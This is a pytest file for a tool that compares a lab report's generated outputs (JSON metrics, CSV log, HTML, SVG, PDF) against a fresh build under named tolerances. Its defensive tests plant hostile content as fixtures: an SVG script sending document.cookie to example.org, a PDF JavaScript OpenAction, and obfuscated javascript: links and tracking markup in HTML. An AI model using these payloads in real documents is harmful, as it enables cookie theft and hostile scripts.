"""report.compare.dirs finds exactly the change planted in a copy of an outputs dir,
fails on any byte difference by default, and forgives only what a named
tolerance says it forgives."""
import io
import json
import shutil

import pytest

from report.compare.dirs import Change, Tolerance, compare_dirs, format_comparison

RTOL = Tolerance(rtol=1e-6)
RENDERING = Tolerance(rendering_rms=2)
TOLERANCES = [Tolerance(), RTOL, RENDERING, Tolerance(rtol=1e-6, rendering_rms=2)]

METRICS = {
    "config": {"lr": 0.1, "hidden": [8, 4], "activation": "relu"},
    "final": {"loss": 0.25, "accuracy": 0.9},
    "predictions": [0, 1, 1, 0],
    "gradient_check": [{"name": "W1", "relative_error": 1.5e-9},
                       {"name": "b1", "relative_error": "nan"}],
}


def epoch_log(loss_scale=1.0, accuracy_shift=0.0):
    return "epoch,loss,accuracy\n" + "".join(
        f"{e},{loss_scale / e:.6f},{0.5 + accuracy_shift + e / 100:.2f}\n"
        for e in range(1, 31))


LOG = epoch_log()
PAGE = """<!doctype html><html><head><title>Exp 6</title>
<style>p { color: #222 }</style></head><body>
<h1>Experiment 6</h1>
<p class="result">The loss fell to 0.25 after 30 epochs.</p>
<figure><svg id="fig-loss" width="60pt" height="40pt" viewBox="0 0 60 40">
<path d="M0 0 L60 40" stroke="black"/></svg>
<figcaption>Loss by epoch.</figcaption></figure>
<table><tr><th>epoch</th><th>loss</th></tr><tr><td>30</td><td>0.25</td></tr></table>
<script>const note = "<p>not shown</p>";</script>
</body></html>
"""
REPORT_PDF_HTML = "<h1>Experiment 6</h1><p>The loss fell to 0.25 after 30 epochs.</p>"


def figure_svg(ys):
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    with plt.rc_context({"svg.hashsalt": "labreport"}):
        fig, ax = plt.subplots(figsize=(2, 1.5))
        ax.plot(ys)
        out = io.BytesIO()
        fig.savefig(out, format="svg", metadata={"Date": None})
        plt.close(fig)
    return out.getvalue()


def pdf(html):
    from weasyprint import HTML
    return HTML(string=html).write_pdf()


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A small outputs dir, made once."""
    d = tmp_path_factory.mktemp("built")
    (d / "metrics.json").write_text(json.dumps(METRICS, indent=2))
    (d / "log.csv").write_text(LOG)
    (d / "report.html").write_text(PAGE)
    (d / "loss.svg").write_bytes(figure_svg([3, 2, 1.5, 1.2]))
    (d / "report.pdf").write_bytes(pdf(REPORT_PDF_HTML))
    return d


@pytest.fixture
def dirs(built, tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    shutil.copytree(built, old)
    shutil.copytree(built, new)
    return old, new


def edit(path, old, new):
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def not_unchanged(comparison):
    return {f.path: f.status for f in comparison.files if f.status != "unchanged"}


def only_difference(old, new, tolerance):
    """The one file that differs, its FileResult, and the comparison."""
    c = compare_dirs(old, new, tolerance=tolerance)
    [result] = [f for f in c.files if f.status != "unchanged"]
    return result, c


def test_identical_dirs_are_identical(dirs):
    c = compare_dirs(*dirs)
    assert c.identical
    assert len(c.files) == 5
    assert format_comparison(c) == "identical: 5 files compared"


def test_changed_number_in_metrics_is_listed_with_path_and_relative_change(dirs):
    old, new = dirs
    metrics = json.loads((new / "metrics.json").read_text())
    metrics["gradient_check"][0]["relative_error"] = 3e-9
    (new / "metrics.json").write_text(json.dumps(metrics, indent=2))

    c = compare_dirs(old, new)

    assert not c.identical
    assert not_unchanged(c) == {"metrics.json": "changed"}
    result = c.file("metrics.json")
    assert result.changes == [Change(("gradient_check.0.relative_error",), 1.5e-9, 3e-9,
                                     pytest.approx(1.0))]
    text = format_comparison(c)
    assert "metrics.json: changed, 1 value" in text
    row = next(line for line in text.splitlines() if "gradient_check.0.relative_error" in line)
    assert row.split() == ["gradient_check.0.relative_error", "1.5e-09", "3e-09", "+1"]


def test_change_within_rtol_is_tolerated_and_said_to_be_within_rtol(dirs):
    old, new = dirs
    edit(new / "metrics.json", "0.25", "0.2500001")

    assert not compare_dirs(old, new).passes
    c = compare_dirs(old, new, tolerance=RTOL)
    assert c.passes and not c.identical
    assert not_unchanged(c) == {"metrics.json": "tolerated"}
    assert c.file("metrics.json").summary == \
        "1 number within rtol 1e-06 (largest relative change 4e-07)"
    assert format_comparison(c).startswith(
        f"{old}: matches {new} within rtol 1e-06: 1 of 5 files differ within it")
    assert "identical" not in format_comparison(c).splitlines()[0]


def test_nan_spelled_differently_is_equal_and_added_keys_are_listed(dirs):
    old, new = dirs
    metrics = json.loads((new / "metrics.json").read_text())
    metrics["gradient_check"][1]["relative_error"] = float("nan")
    metrics["config"]["activation"] = "tanh"
    metrics["config"]["momentum"] = 0.9
    (new / "metrics.json").write_text(json.dumps(metrics))

    result = compare_dirs(old, new).file("metrics.json")

    assert result.changes == [Change(("config.activation",), "relu", "tanh")]
    assert result.details == ["added: config.momentum = 0.9"]


def test_changed_line_in_log_csv_lists_cells_by_row_and_column(dirs):
    old, new = dirs
    edit(new / "log.csv", "7,0.142857,0.57\n", "7,0.150000,0.57\n")
    edit(new / "log.csv", "30,0.033333,0.80\n", "30,0.033333,0.80\n31,0.032258,0.81\n")

    c = compare_dirs(old, new)

    assert not_unchanged(c) == {"log.csv": "changed"}
    result = c.file("log.csv")
    assert result.where_names == ("epoch", "column")
    assert result.changes == [Change(("7", "loss"), 0.142857, 0.15,
                                     pytest.approx(0.15 / 0.142857 - 1))]
    assert result.details == ["rows added: 1 (31)"]
    row = next(line for line in format_comparison(c).splitlines() if "0.142857" in line)
    assert row.split() == ["7", "loss", "0.142857", "0.15", "+0.0500011"]


def test_many_changed_cells_are_counted_and_summarised(dirs):
    old, new = dirs
    (new / "log.csv").write_text(epoch_log(loss_scale=1.01, accuracy_shift=0.01))

    c = compare_dirs(old, new)
    text = format_comparison(c)

    assert len(c.file("log.csv").changes) == 60
    assert "... and 40 more changed values" in text
    assert "largest |rel. change| by column: loss" in text


def test_changed_sentence_in_html_shows_in_a_diff_of_the_visible_text(dirs):
    old, new = dirs
    edit(new / "report.html", "fell to 0.25", "fell to 0.31")

    c = compare_dirs(old, new)

    assert not_unchanged(c) == {"report.html": "changed"}
    result = c.file("report.html")
    assert result.summary == "visible text changed"
    assert "-The loss fell to 0.25 after 30 epochs." in result.diff
    assert "+The loss fell to 0.31 after 30 epochs." in result.diff
    assert not any("<p" in line or "color" in line for line in result.diff)
    assert "+The loss fell to 0.31 after 30 epochs." in format_comparison(c)


def test_markup_only_change_in_html_says_so(dirs):
    old, new = dirs
    edit(new / "report.html", '<p class="result">', '<p class="finding">\n  ')
    edit(new / "report.html", "color: #222", "color: #333")

    result = compare_dirs(old, new).file("report.html")

    assert result.status == "changed"
    assert result.summary == "markup changed, visible text identical"
    assert result.diff == [] and result.details == []


def test_script_is_not_visible_text_but_table_cells_are(dirs):
    old, new = dirs
    edit(new / "report.html", "not shown", "still not shown")
    assert compare_dirs(old, new).file("report.html").diff == []

    edit(new / "report.html", "<td>0.25</td>", "<td>0.31</td>")
    diff = compare_dirs(old, new).file("report.html").diff
    assert [line for line in diff if line[:1] in "+-" and line[:3] not in ("+++", "---")] \
        == ["-30 | 0.25", "+30 | 0.31"]


def test_added_equation_in_html_is_counted_and_read_as_its_tex(dirs):
    old, new = dirs
    equation = ('<p>so <svg aria-label="x^2" data-tex="x^2" width="1em" height="1em">'
                '</svg>.</p>')
    edit(new / "report.html", "</body>", equation + "</body>")

    result = compare_dirs(old, new).file("report.html")

    assert result.details == ["inline SVGs: 1 → 2"]
    assert "+so $x^2$." in result.diff


def test_changed_inline_equation_shows_its_tex_in_the_text_diff(dirs):
    old, new = dirs
    for side, tex in ((old, "a^{[l]}"), (new, "a^{[l-1]}")):
        edit(side / "report.html", "The loss fell", "The layer of "
             f'<svg class="math" role="img" aria-label="{tex}" data-tex="{tex}" '
             'width="1em" height="1em">'
             '</svg> computes. The loss fell')

    diff = compare_dirs(old, new).file("report.html").diff

    assert "-The layer of $a^{[l]}$ computes. The loss fell to 0.25 after 30 epochs." in diff
    assert "+The layer of $a^{[l-1]}$ computes. The loss fell to 0.25 after 30 epochs." in diff


def test_a_figure_with_alternative_text_reads_as_a_picture_not_as_math(dirs):
    old, new = dirs
    figure = '<p><svg role="img" aria-label="loss falls" width="9" height="9"></svg></p>'
    edit(new / "report.html", "</body>", figure + "</body>")

    diff = compare_dirs(old, new).file("report.html").diff

    assert "+[picture: loss falls]" in diff
    assert "$loss falls$" not in diff


def test_changed_inline_svg_in_html_is_compared_as_a_picture(dirs):
    old, new = dirs
    edit(new / "report.html", "L60 40", "L60 10")

    result = compare_dirs(old, new).file("report.html")

    assert result.diff == []
    [note] = result.details
    assert note.startswith("inline SVG #1 (fig-loss): changed, RMS ")


def test_changed_figure_reports_its_rms(dirs):
    old, new = dirs
    (new / "loss.svg").write_bytes(figure_svg([3, 2, 1.4, 1.2]))

    c = compare_dirs(old, new)

    assert not_unchanged(c) == {"loss.svg": "changed"}
    summary = c.file("loss.svg").summary
    assert summary.startswith("RMS ") and summary.endswith(" (of 255)")
    assert float(summary.split()[1]) > 0
    assert f"loss.svg: changed, {summary}" in format_comparison(c)


@pytest.mark.parametrize("tolerance", TOLERANCES, ids=Tolerance.describe)
def test_figure_with_other_bytes_but_same_picture_fails_and_says_why(dirs, tolerance):
    old, new = dirs
    edit(old / "loss.svg", "<svg ", "<!-- rebuilt -->\n<svg ")

    result, c = only_difference(old, new, tolerance)

    assert not c.passes and result.status == "changed"
    assert result.summary == ("bytes differ, rendering identical; "
                              "markup differs beyond numbers: <!-- rebuilt -->")


def test_resized_figure_reports_the_size_change(dirs):
    old, new = dirs
    edit(new / "loss.svg", 'width="144pt"', 'width="150pt"')

    summary = compare_dirs(old, new).file("loss.svg").summary

    assert summary.startswith("size changed (192×144 → 200×144 px)")


def test_changed_pdf_text_shows_in_a_diff_and_its_page_looks_different(dirs):
    old, new = dirs
    (new / "report.pdf").write_bytes(pdf(REPORT_PDF_HTML.replace("0.25", "0.31")))

    result = compare_dirs(old, new).file("report.pdf")

    assert result.status == "changed"
    assert "-The loss fell to 0.25 after 30 epochs." in result.diff
    assert "+The loss fell to 0.31 after 30 epochs." in result.diff
    [note] = result.details
    assert note.startswith("page 1: changed, RMS ")


def test_deleted_and_added_files(dirs):
    old, new = dirs
    (new / "loss.svg").unlink()
    (new / "accuracy.svg").write_bytes(figure_svg([0.5, 0.7, 0.9]))

    c = compare_dirs(old, new)

    assert not_unchanged(c) == {"loss.svg": "extra", "accuracy.svg": "added"}
    text = format_comparison(c)
    assert text.startswith(
        "outputs differ: 0 changed, 1 missing, 1 not made by labreport, 4 unchanged")
    assert "\nloss.svg: not made by labreport" in text
    assert "\naccuracy.svg: missing from the committed outputs (a fresh build makes it)" in text


def test_students_own_files_are_left_out_when_only_is_given(dirs):
    old, new = dirs
    (old / "notes.txt").write_text("remember to ask about momentum\n")
    written = {"metrics.json", "log.csv", "report.html", "loss.svg", "report.pdf"}

    assert not_unchanged(compare_dirs(old, new)) == {"notes.txt": "extra"}
    assert compare_dirs(old, new, only=written).identical

    (new / "report.pdf").unlink()
    assert not_unchanged(compare_dirs(old, new, only=written)) == {"report.pdf": "extra"}


def test_unknown_file_type_reports_its_sizes(dirs):
    old, new = dirs
    (old / "weights.npy").write_bytes(b"\x93NUMPY" + bytes(10))
    (new / "weights.npy").write_bytes(b"\x93NUMPY" + bytes(14))

    c = compare_dirs(old, new)

    assert c.file("weights.npy").summary == "binary, 16 → 20 bytes"
    assert "weights.npy: changed, binary, 16 → 20 bytes" in format_comparison(c)


def test_unparsable_json_is_reported_not_raised(dirs):
    old, new = dirs
    (new / "metrics.json").write_text("{ not json")

    result = compare_dirs(old, new).file("metrics.json")

    assert result.status == "changed"
    assert result.summary.startswith("could not compare (JSONDecodeError")


# --- strict by default; what no tolerance forgives --------------------------------

def add_open_action_and_author(path):
    """An incremental update, as a PDF editor saves one: a JavaScript
    /OpenAction in the catalog and an /Author in the Info dictionary."""
    import pypdf
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = pypdf.PdfWriter(io.BytesIO(path.read_bytes()), incremental=True)
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.add_metadata({"/Author": "someone"})
    out = io.BytesIO()
    writer.write(out)
    path.write_bytes(out.getvalue())


def append_after_eof(path):
    path.write_bytes(path.read_bytes() + b"x" * 120)


def add_script_to_svg(path):
    edit(path, "</svg>", '<script>fetch("https://example.org/?" + document.cookie)</script></svg>')


def add_space_to_json(path):
    edit(path, "{", "{ ")


def edit_path_that_is_not_drawn(path):
    # The figure's background: a path with fill="none" and no stroke.
    edit(path, "M 0 108 \nL 144 108", "M 0 108 \nL 100 108")


PLANTED = {  # the file, how to plant, what its report says
    "report.pdf: JavaScript /OpenAction and /Author":
        ("report.pdf", add_open_action_and_author,
         ["bytes differ, rendering and text identical; ",
          "; added: /OpenAction (JavaScript), /Author"]),
    "report.pdf: bytes after %%EOF":
        ("report.pdf", append_after_eof,
         ["bytes differ, rendering and text identical; 120 bytes appended after %%EOF"]),
    "loss.svg: <script>":
        ("loss.svg", add_script_to_svg,
         ["bytes differ, rendering identical; ", "; added: <script>"]),
    "metrics.json: a space":
        ("metrics.json", add_space_to_json,
         ["formatting differs (whitespace), values identical"]),
    "loss.svg: a path that is not drawn":
        ("loss.svg", edit_path_that_is_not_drawn,
         ["bytes differ, rendering identical; a changed element is not drawn: <path d=\"M 0 108"]),
}


@pytest.mark.parametrize("tolerance", TOLERANCES, ids=Tolerance.describe)
@pytest.mark.parametrize("planted", PLANTED)
def test_each_planted_change_fails_whatever_the_tolerance_and_says_why(dirs, planted, tolerance):
    old, new = dirs
    name, plant, reasons = PLANTED[planted]
    plant(old / name)

    result, c = only_difference(old, new, tolerance)

    assert (result.path, result.status) == (name, "changed")
    assert not c.passes
    assert result.summary.startswith(reasons[0])
    assert all(reason in result.summary for reason in reasons)
    assert f"\n{name}: changed, {result.summary}\n" in format_comparison(c) + "\n"


def test_a_script_in_a_figure_is_named(dirs):
    old, new = dirs
    add_script_to_svg(old / "loss.svg")
    assert compare_dirs(old, new).file("loss.svg").summary.endswith("; added: <script>")


def test_an_incremental_update_is_named_as_such(dirs):
    old, new = dirs
    add_open_action_and_author(old / "report.pdf")
    summary = compare_dirs(old, new, tolerance=RENDERING).file("report.pdf").summary
    assert " bytes appended after %%EOF (an incremental update)" in summary


def test_a_pdf_that_cannot_be_read_is_never_tolerated(dirs):
    old, new = dirs
    (old / "report.pdf").write_bytes((new / "report.pdf").read_bytes()[:2000])

    result, _ = only_difference(old, new, Tolerance(rtol=0.1, rendering_rms=255))

    assert result.status == "changed"
    assert "it cannot be read as a PDF" in result.summary


def test_changed_pdf_metadata_is_named_and_never_tolerated(dirs, monkeypatch):
    old, new = dirs
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    (old / "report.pdf").write_bytes(pdf_with_date(REPORT_PDF_HTML, "2026-01-01T00:00:00Z"))
    (new / "report.pdf").write_bytes(pdf_with_date(REPORT_PDF_HTML, "2026-02-01T00:00:00Z"))

    result, _ = only_difference(old, new, Tolerance(rtol=1e-6, rendering_rms=2))

    assert result.status == "changed"
    assert result.summary == ("bytes differ, rendering and text identical; "
                              "metadata changed: /CreationDate, /ModDate")


def pdf_with_date(html, date):
    from weasyprint import HTML

    document = HTML(string=html).render()
    document.metadata.created = document.metadata.modified = date
    return document.write_pdf()


@pytest.mark.parametrize("markup", [
    '<p onclick="steal()">Loss by epoch.</p>',
    '<a href="javascript:steal()">Loss by epoch.</a>',
    '<a href="java&#x09;script:steal()">Loss by epoch.</a>',
    '<img src="https://example.org/pixel.png">',
    '<iframe src="data:text/html,hello"></iframe>',
    '<p style="background: url(//example.org/x.png)">Loss by epoch.</p>',
])
def test_active_or_foreign_markup_in_html_is_never_tolerated(dirs, markup):
    old, new = dirs
    edit(old / "report.html", "<figcaption>Loss by epoch.</figcaption>",
         f"<figcaption>{markup}</figcaption>")

    result, _ = only_difference(old, new, Tolerance(rtol=1e-6, rendering_rms=2))

    assert result.status == "changed"
    assert "added: " in result.summary


def test_a_script_inside_an_inline_svg_is_found(dirs):
    old, new = dirs
    edit(old / "report.html", '<path d="M0 0 L60 40" stroke="black"/>',
         '<path d="M0 0 L60 40" stroke="black"/><svg:script>steal()</svg:script>')

    result, _ = only_difference(old, new, RENDERING)

    assert result.status == "changed"
    assert result.summary.endswith("; added: <script>")


def test_active_content_the_fresh_build_has_too_is_fine(dirs):
    old, new = dirs
    # The page of the fixture carries a <script> on both sides.
    edit(old / "report.html", "<p>not shown</p>", "<p>not shown either</p>")
    result = compare_dirs(old, new).file("report.html")
    assert "added" not in result.summary


# --- what each tolerance forgives ----------------------------------------------------

def test_last_bit_changes_in_numbers_pass_with_rtol_and_say_within_rtol(dirs):
    old, new = dirs
    edit(old / "metrics.json", '"loss": 0.25', '"loss": 0.25000000000000006')
    edit(old / "log.csv", "7,0.142857,", "7,0.14285700000000003,")

    for tolerance in (Tolerance(), RENDERING):
        assert not compare_dirs(old, new, tolerance=tolerance).passes
    c = compare_dirs(old, new, tolerance=Tolerance(rtol=1e-9))

    assert c.passes and not c.identical
    assert not_unchanged(c) == {"metrics.json": "tolerated", "log.csv": "tolerated"}
    assert format_comparison(c).splitlines() == [
        f"{old}: matches {new} within rtol 1e-09: 2 of 5 files differ within it",
        "  log.csv: 1 cell within rtol 1e-09 (largest relative change 1.9e-16)",
        "  metrics.json: 1 number within rtol 1e-09 (largest relative change 2.2e-16)"]


def test_a_number_beyond_rtol_fails_and_lists_only_what_is_beyond(dirs):
    old, new = dirs
    edit(old / "metrics.json", '"loss": 0.25', '"loss": 0.25000000000000006')
    edit(old / "metrics.json", '"lr": 0.1', '"lr": 0.2')

    result, _ = only_difference(old, new, Tolerance(rtol=1e-9))

    assert result.status == "changed"
    assert result.summary.startswith("1 value, 1 number within rtol 1e-09")
    assert [ch.where for ch in result.changes] == [("config.lr",)]


def test_numbers_in_html_text_as_the_report_writes_them_are_compared_within_rtol(dirs):
    old, new = dirs
    for side, loss in ((old, "1.58\u00a0×\u00a010⁻⁴"), (new, "1.5800000001\u00a0×\u00a010⁻⁴")):
        edit(side / "report.html", "fell to 0.25", f"fell to {loss}, change \u22120.5, 99\u00a0%")

    assert not compare_dirs(old, new).passes
    result, c = only_difference(old, new, RTOL)
    assert c.passes and result.status == "tolerated"
    assert result.summary.startswith("1 number in the text within rtol 1e-06")

    edit(new / "report.html", "10⁻⁴", "10⁻⁵")  # the same digits, ten times smaller
    result, _ = only_difference(old, new, RTOL)
    assert (result.status, result.summary) == ("changed", "visible text changed")


def test_a_changed_word_is_never_a_number_within_rtol(dirs):
    old, new = dirs
    edit(new / "report.html", "<th>loss</th>", "<th>loss W1</th>")
    edit(old / "report.html", "<th>loss</th>", "<th>loss W2</th>")
    result, _ = only_difference(old, new, Tolerance(rtol=0.9))
    assert (result.status, result.summary) == ("changed", "visible text changed")


def test_pdf_text_differing_in_a_number_within_rtol_passes_with_rtol(dirs):
    old, new = dirs
    small = "<h1>Experiment 6</h1><p style='font-size: 6pt'>The loss fell to {}.</p>"
    (old / "report.pdf").write_bytes(pdf(small.format("0.2500000001")))
    (new / "report.pdf").write_bytes(pdf(small.format("0.2500000000")))

    assert not compare_dirs(old, new).passes
    result, c = only_difference(old, new, RTOL)

    assert c.passes
    assert result.summary.startswith("rendering differs within RMS 0.4")
    assert result.summary.endswith("1 number in the text within rtol 1e-06")


def test_a_pdf_rendered_slightly_differently_passes_only_with_the_rendering_tolerance(dirs):
    old, new = dirs
    # As another FreeType's anti-aliasing might: grey levels move, text stays.
    (old / "report.pdf").write_bytes(
        pdf("<style>body { color: #222 }</style>" + REPORT_PDF_HTML))

    for tolerance in (Tolerance(), RTOL):
        result, c = only_difference(old, new, tolerance)
        assert not c.passes
        assert result.summary.startswith("1 of 1 pages look different")
    result, c = only_difference(old, new, RENDERING)

    assert c.passes and result.status == "tolerated"
    assert result.summary == "rendering differs within RMS 1.7 on 1 page, text identical"
    assert format_comparison(c).startswith(f"{old}: matches {new} within rendering RMS 2:")


def test_a_drawn_element_that_moved_a_little_passes_with_a_pixel_tolerance(dirs):
    old, new = dirs
    edit(old / "report.html", "L60 40", "L60.05 40")

    for tolerance in (Tolerance(), RTOL):  # RMS 1.08: more than rtol's pixel allowance
        assert not compare_dirs(old, new, tolerance=tolerance).passes
    result, c = only_difference(old, new, RENDERING)

    assert c.passes
    assert result.summary == "visible text identical, inline SVGs within tolerance"
    [note] = result.details
    assert note.startswith("inline SVG #1 (fig-loss): tolerated, rendering differs within RMS")


def test_the_rendering_tolerance_forgives_recorded_rendering_library_versions_only(dirs):
    old, new = dirs
    for side, harfbuzz, numpy in ((old, "6.0.0", "2.4.6"), (new, "8.3.0", "2.4.6")):
        metrics = json.loads((side / "metrics.json").read_text())
        metrics["provenance"] = {"environment": {"harfbuzz": harfbuzz, "numpy": numpy}}
        (side / "metrics.json").write_text(json.dumps(metrics, indent=2))

    assert not compare_dirs(old, new, tolerance=RTOL).passes
    result, c = only_difference(old, new, RENDERING)
    assert c.passes
    assert result.summary == "rendering libraries recorded differ (harfbuzz 6.0.0 → 8.3.0)"

    edit(old / "metrics.json", '"numpy": "2.4.6"', '"numpy": "1.26.4"')
    assert compare_dirs(old, new, tolerance=RENDERING).file("metrics.json").status == "changed"


@pytest.mark.parametrize("edit_json, kind", [
    (lambda text: text.replace('"lr": 0.1', '"lr": 0.10'), "spelling of values"),
    (lambda text: json.dumps(dict(reversed(json.loads(text).items())), indent=2), "layout"),
])
def test_json_formatting_is_never_tolerated(dirs, edit_json, kind):
    old, new = dirs
    (old / "metrics.json").write_text(edit_json((old / "metrics.json").read_text()))
    result, _ = only_difference(old, new, Tolerance(rtol=1e-6, rendering_rms=2))
    assert (result.status, result.summary) == ("changed", f"formatting differs ({kind}), "
                                                          "values identical")


def test_csv_formatting_is_never_tolerated(dirs):
    old, new = dirs
    edit(old / "log.csv", "7,0.142857,0.57", "7,0.1428570,0.57")
    result, _ = only_difference(old, new, RTOL)
    assert result.status == "changed"
    assert result.summary.startswith("formatting differs")
